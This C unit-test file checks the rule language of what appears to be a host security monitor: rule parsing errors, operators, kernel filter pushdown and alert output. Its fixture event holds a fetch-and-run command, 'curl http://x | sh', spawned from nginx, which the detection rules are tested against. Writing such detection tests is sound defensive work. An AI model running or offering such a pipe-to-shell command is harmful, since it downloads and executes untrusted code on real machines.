// SPDX-License-Identifier: GPL-2.0-only
/* The rule language: the malformed corpus with exact errors, evaluation of every operator, the
 * kernel pushdown, and alert rendering. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>

#include "kinds.h"
#include "policy/alert.h"
#include "policy/eval.h"
#include "policy/kfilter.h"
#include "policy/policy.h"

static const char *src_dir(void)
{
	const char *d = getenv("VIGIL_SOURCE_DIR");
	return d ? d : ".";
}

/* Every file of tests/policy/malformed gives exactly the error EXPECTED names, at its place. */
static void malformed_corpus(void **state)
{
	char path[512], line[1024];
	int cases = 0;

	(void)state;
	assert_int_equal(chdir(src_dir()), 0); /* messages name files as the corpus does */
	snprintf(path, sizeof(path), "tests/policy/malformed/EXPECTED");
	FILE *f = fopen(path, "r");
	assert_non_null(f);
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\n")] = '\0';
		char *tab = strchr(line, '\t');
		assert_non_null(tab);
		*tab = '\0';
		const char *want = tab + 1;
		struct policy_set ps;
		char file[512], got[700];

		snprintf(file, sizeof(file), "tests/policy/malformed/%s", line);
		policy_init(&ps);
		policy_add_path(&ps, file);
		policy_compile(&ps);
		if (!ps.nerrors) {
			fprintf(stderr, "%s: no error, expected %s\n", line, want);
			fail();
		}
		snprintf(got, sizeof(got), "%d:%d: %s", ps.errors[0].pos.line, ps.errors[0].pos.col,
			 ps.errors[0].msg);
		bool prefix = strlen(want) > 7 && !strcmp(want + strlen(want) - 7, "(known:");
		if (prefix ? strncmp(got, want, strlen(want)) : strcmp(got, want)) {
			fprintf(stderr, "%s:\n  got  %s\n  want %s\n", line, got, want);
			fail();
		}
		policy_free(&ps);
		cases++;
	}
	fclose(f);
	assert_true(cases >= 50);
}

static struct policy_set ps;

static void load(const char *yaml)
{
	policy_init(&ps);
	policy_add_text(&ps, "test.yaml", yaml, strlen(yaml));
	policy_compile(&ps);
	if (ps.nerrors)
		policy_print_errors(&ps, stderr);
	assert_int_equal(ps.nerrors, 0);
}

static const char *EVENT =
	"{\"time\":\"2026-11-21T21:00:00.000000001Z\",\"kind\":\"process.exec\","
	"\"proc\":{\"tgid\":42,\"uid\":1000,\"comm\":\"sh\",\"exe\":\"/usr/bin/dash\","
	"\"args\":[\"sh\",\"-c\",\"curl http://x | sh\"],\"cwd\":\"/tmp\",\"container_id\":\"\","
	"\"ns\":{\"pid\":4026531836}},"
	"\"parent\":{\"tgid\":41,\"comm\":\"nginx\",\"exe\":\"/usr/sbin/nginx\",\"args\":[\"nginx\",\"-g\"]},"
	"\"ancestors\":[{\"tgid\":1,\"comm\":\"systemd\",\"exe\":\"/usr/lib/systemd/systemd\",\"args\":[\"/sbin/init\"]}],"
	"\"exec\":{\"argc\":3}}";

static bool holds(const char *cond)
{
	char yaml[1024];
	json_t *ev = json_loads(EVENT, 0, NULL);
	bool r;

	snprintf(yaml, sizeof(yaml),
		 "lists:\n  servers: [nginx, apache2]\nmacros:\n  from_server: parent.comm in (servers)\n"
		 "rules:\n  - name: t\n    on: process.exec\n    when: '%s'\n", cond);
	load(yaml);
	r = policy_eval(ps.rules[0].cond, ev);
	json_decref(ev);
	policy_free(&ps);
	return r;
}

static void operators(void **state)
{
	(void)state;
	assert_true(holds("proc.uid == 1000"));
	assert_false(holds("proc.uid != 1000"));
	assert_true(holds("proc.uid > 999 and proc.uid >= 1000 and proc.uid < 1001 and proc.uid <= 1000"));
	assert_true(holds("proc.uid in (0, 1000)"));
	assert_true(holds("proc.exe == /usr/bin/dash"));
	assert_true(holds("proc.exe startswith /usr/ and proc.exe endswith dash"));
	assert_true(holds("proc.exe contains bin/da"));
	assert_true(holds("proc.exe glob \"/usr/*/d?sh\""));
	assert_false(holds("proc.exe glob /bin/*"));
	assert_true(holds("proc.cwd startswith (/var/, /tmp)"));
	assert_true(holds("proc.tgid exists and not proc.tty exists"));
	assert_true(holds("proc.ns.pid == 4026531836"));
	assert_true(holds("exec.argc == 3"));
	assert_true(holds("kind == process.exec"));
}

static void multi_valued_fields(void **state)
{
	(void)state;
	assert_true(holds("proc.args == -c"));             /* any element */
	assert_true(holds("proc.args contains curl"));
	assert_false(holds("proc.args != -c"));            /* != : no element equals */
	assert_true(holds("proc.args != -x"));
	assert_true(holds("proc.cmdline contains \"| sh\""));
	assert_true(holds("proc.cmdline == \"sh -c curl http://x | sh\""));
	assert_true(holds("ancestors.comm == systemd"));   /* the parent or any ancestor */
	assert_true(holds("ancestors.comm == nginx"));
	assert_false(holds("ancestors.comm == bash"));
	assert_true(holds("parent.cmdline == \"nginx -g\""));
}

static void lists_macros_and_logic(void **state)
{
	(void)state;
	assert_true(holds("from_server and proc.comm in (bash, sh)"));
	assert_true(holds("parent.comm in servers"));
	assert_false(holds("not from_server"));
	assert_true(holds("(proc.uid == 0 or proc.uid == 1000) and not (proc.comm == bash)"));
	assert_false(holds("container.id exists and container.id != \"\""));
	assert_false(holds("proc.tty == pts/0"));          /* a field the event lacks: false */
	assert_true(holds("not proc.tty == pts/0"));
}

static void exceptions_suppress(void **state)
{
	json_t *ev = json_loads(EVENT, 0, NULL);

	(void)state;
	load("rules:\n  - name: t\n    on: process.exec\n    when: proc.uid == 1000\n"
	     "    exceptions:\n      - name: nginx_shells\n        fields: [parent.comm, proc.comm]\n"
	     "        values: [[nginx, sh], [apache2, bash]]\n");
	assert_int_equal(ps.rules[0].nexceptions, 2);
	assert_false(policy_eval(ps.rules[0].cond, ev));
	assert_true(policy_eval(ps.rules[0].when_tree, ev));
	policy_free(&ps);
	load("rules:\n  - name: t\n    on: process.exec\n    when: proc.uid == 1000\n"
	     "    exceptions:\n      - name: other\n        fields: [proc.uid]\n        values: [0, 1]\n");
	assert_true(policy_eval(ps.rules[0].cond, ev));
	policy_free(&ps);
	json_decref(ev);
}

static void kernel_pushdown(void **state)
{
	struct filter *f;
	size_t n;
	char err[128];

	(void)state;
	load("rules:\n"
	     "  - name: a\n    on: process.exec\n    when: (proc.uid in (0, 1) and proc.comm == sh) or proc.uid == 5\n"
	     "  - name: b\n    on: [process.exec, process.exit]\n    when: proc.exe startswith /tmp/\n"
	     "  - name: c\n    on: process.exec\n    when: proc.uid == 7 and proc.uid == 8\n"
	     "  - name: d\n    on: process.exec\n    when: not proc.uid == 0\n");
	assert_int_equal(policy_kernel_filters(&ps, &f, &n, err, sizeof(err)), 0);
	/* a: two terms; b: the exe's prefix for exec (the kernel has the path there), nothing for
	 * exit; c: impossible (uid 7 and 8 at once), so no term; d: its kind ("not" stays in user
	 * space) */
	assert_int_equal(n, 5);
	assert_int_equal(f[0].nuid, 2);
	assert_int_equal(f[0].ncomm, 1);
	assert_string_equal(f[0].comm[0], "sh");
	assert_int_equal(f[0].kinds, KIND_BIT(VIGIL_KIND_PROCESS_EXEC));
	assert_int_equal(f[1].nuid, 1);
	assert_int_equal(f[1].uid[0], 5);
	assert_int_equal(f[2].kinds, KIND_BIT(VIGIL_KIND_PROCESS_EXEC));
	assert_int_equal(f[2].npath, 1);
	assert_int_equal(f[2].path[0].len, 5);
	assert_memory_equal(f[2].path[0].s, "/tmp/", 5);
	assert_false(f[2].path[0].exact);
	assert_int_equal(f[3].kinds, KIND_BIT(VIGIL_KIND_PROCESS_EXIT));
	assert_int_equal(f[3].npath + f[3].nuid, 0);
	assert_int_equal(f[4].kinds, KIND_BIT(VIGIL_KIND_PROCESS_EXEC));
	assert_int_equal(f[4].nuid, 0);
	/* the user's own filter narrows every term */
	struct filter user = { .nuid = 1, .uid = { 0 } };
	n = policy_filters_restrict(f, n, &user);
	assert_int_equal(n, 4); /* uid 5 cannot be uid 0 */
	assert_int_equal(f[0].nuid, 1);
	assert_int_equal(f[0].uid[0], 0);
	assert_int_equal(f[1].npath, 1);
	assert_int_equal(f[1].nuid, 1);
	free(f);
	assert_int_equal(policy_kinds(&ps), KIND_BIT(VIGIL_KIND_PROCESS_EXEC) | KIND_BIT(VIGIL_KIND_PROCESS_EXIT));
	policy_free(&ps);
}

static void thousand_rules_one_term_each(void **state)
{
	struct sbuf y = {};
	struct filter *f;
	size_t n;
	char err[128];

	(void)state;
	/* identical kernel parts are shared: exec.argc is user space's */
	sbuf_puts(&y, "rules:\n");
	for (int i = 0; i < 1000; i++)
		sbuf_printf(&y, "  - name: r%d\n    on: process.exec\n    when: proc.uid == %d and exec.argc == %d\n",
			    i, i % 200, i);
	load(sbuf_str(&y));
	assert_int_equal(ps.nrules, 1000);
	assert_int_equal(policy_kernel_filters(&ps, &f, &n, err, sizeof(err)), 0);
	assert_int_equal(n, 200);
	free(f);
	policy_free(&ps);
	/* 1,000 different exact paths: a term each, and they all fit the filter bits */
	sbuf_reset(&y);
	sbuf_puts(&y, "rules:\n");
	for (int i = 0; i < 1000; i++)
		sbuf_printf(&y, "  - name: r%d\n    on: process.exec\n    when: proc.exe == /x%d\n", i, i);
	load(sbuf_str(&y));
	assert_int_equal(policy_kernel_filters(&ps, &f, &n, err, sizeof(err)), 0);
	assert_int_equal(n, 1000);
	assert_true(f[999].path[0].exact);
	free(f);
	policy_free(&ps);
	sbuf_free(&y);
}

static void alerts_render(void **state)
{
	json_t *ev = json_loads(EVENT, 0, NULL);
	struct sbuf b = {};
	struct out o;

	(void)state;
	load("rules:\n  - name: Shell from server\n    description: d\n    on: process.exec\n"
	     "    when: parent.comm == nginx\n    severity: high\n    tags: [mitre.T1059]\n"
	     "    output: \"%proc.exe by %parent.comm (%proc.uid) [%proc.cmdline] %proc.tty 100%%\"\n"
	     "  - name: never\n    on: process.exec\n    when: proc.uid == 0\n");
	out_init(&o, &b, OUT_JSON);
	assert_int_equal(policy_alerts(&ps, VIGIL_KIND_PROCESS_EXEC, ev, "{}", 2, &o), 1);
	json_t *alert = json_loads(sbuf_str(&b), 0, NULL);
	assert_non_null(alert);
	assert_string_equal(json_string_value(json_object_get(alert, "kind")), "alert");
	json_t *rule = json_object_get(alert, "rule");
	assert_string_equal(json_string_value(json_object_get(rule, "output")),
			    "/usr/bin/dash by nginx (1000) [sh -c curl http://x | sh] - 100%");
	assert_string_equal(json_string_value(json_object_get(rule, "severity")), "high");
	assert_string_equal(json_string_value(json_array_get(json_object_get(rule, "tags"), 0)), "mitre.T1059");
	assert_string_equal(json_string_value(json_object_get(alert, "time")), "2026-11-21T21:00:00.000000001Z");
	assert_true(json_is_object(json_object_get(alert, "event")));
	/* a kind the rule does not apply to: nothing */
	assert_int_equal(policy_alerts(&ps, VIGIL_KIND_PROCESS_EXIT, ev, "{}", 2, &o), 0);
	json_decref(alert);
	json_decref(ev);
	sbuf_free(&b);
	policy_free(&ps);
}

static void bundled_library_is_clean(void **state)
{
	(void)state;
	policy_init(&ps);
	policy_add_bundled(&ps);
	policy_compile(&ps);
	policy_print_errors(&ps, stderr);
	assert_int_equal(ps.nerrors, 0);
	assert_true(ps.nrules >= 4);
	for (size_t i = 0; i < ps.nrules; i++) {
		assert_true(strlen(ps.rules[i].description) > 20);
		assert_true(ps.rules[i].ntags >= 1);
	}
	policy_free(&ps);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(malformed_corpus),	   cmocka_unit_test(operators),
		cmocka_unit_test(multi_valued_fields),	   cmocka_unit_test(lists_macros_and_logic),
		cmocka_unit_test(exceptions_suppress),	   cmocka_unit_test(kernel_pushdown),
		cmocka_unit_test(thousand_rules_one_term_each), cmocka_unit_test(alerts_render),
		cmocka_unit_test(bundled_library_is_clean),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
